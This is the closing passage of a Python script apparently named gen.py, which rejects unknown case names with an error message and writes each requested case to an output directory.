        sys.stderr.write("gen.py: unknown case(s): %s\n" % " ".join(unknown))
        return 2
    for x in names:
        write_case(outdir, x)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
